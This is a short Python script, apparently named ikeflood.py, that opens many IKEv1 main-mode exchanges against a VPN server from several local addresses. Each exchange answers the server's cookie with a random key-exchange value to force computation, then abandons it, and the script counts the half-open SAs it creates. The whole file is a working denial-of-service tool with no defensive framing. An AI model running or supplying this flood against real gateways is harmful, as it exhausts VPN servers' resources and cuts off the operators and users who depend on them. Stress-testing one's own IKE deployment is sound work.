"""Many who begin main mode and never finish it: ikeflood.py SERVER COUNT ADDRESS...

Each initiator, from one of the addresses, offers, and answers the server's cookie with a public value of its
own, so that the server computes; then it is silent. Prints how many there were, how many were answered and
how many got a half-open SA.
"""

import os
import select
import socket
import struct
import sys
import time

# At most so many wait for an answer: whoever sends faster than anybody reads loses his own.
WINDOW = 256
OFFER = bytes.fromhex(
    # DOI, situation; one proposal with one transform: AES-256, SHA-256, pre-shared key, MODP 2048, seconds.
    "0000000100000001 0000002c01010001 0000002401010000"
    "80010007 800e0100 80020004 80030001 8004000e 800b0001 800c7080"
)


def message(initiator, responder, first, payloads):
    body = b""
    for index, (_, octets) in enumerate(payloads):
        following = payloads[index + 1][0] if index + 1 < len(payloads) else 0
        body += struct.pack("!BBH", following, 0, 4 + len(octets)) + octets
    return initiator + responder + struct.pack("!BBBBII", first, 0x10, 2, 0, 0, 28 + len(body)) + body


def main():
    server, count, addresses = (sys.argv[1], 500), int(sys.argv[2]), sys.argv[3:]
    sockets = []
    for address in addresses:
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.bind((address, 0))
        one.setblocking(False)
        sockets.append(one)
    # A number like any other in the group: nobody can tell.
    value = b"\x7f" + os.urandom(255)
    begun = answered = halfopen = waiting = 0
    quiet = time.monotonic()
    while begun < count or time.monotonic() < quiet + 1:
        while begun < count and (waiting < WINDOW or time.monotonic() > quiet + 0.05):
            one = sockets[begun % len(sockets)]
            one.sendto(message(os.urandom(8), bytes(8), 1, [(1, OFFER)]), server)
            begun += 1
            waiting = min(waiting + 1, WINDOW)
            quiet = time.monotonic()
        for one in select.select(sockets, [], [], 0.05)[0]:
            octets = one.recv(2048)
            quiet = time.monotonic()
            if octets[16] == 1:
                answered += 1
                waiting -= 1
                exchange = [(4, value), (10, os.urandom(20))]
                one.sendto(message(octets[:8], octets[8:16], 4, exchange), server)
            elif octets[16] == 4:
                halfopen += 1
    print(f"{begun} began, {answered} were answered, {halfopen} got a half-open SA", flush=True)


if __name__ == "__main__":
    main()
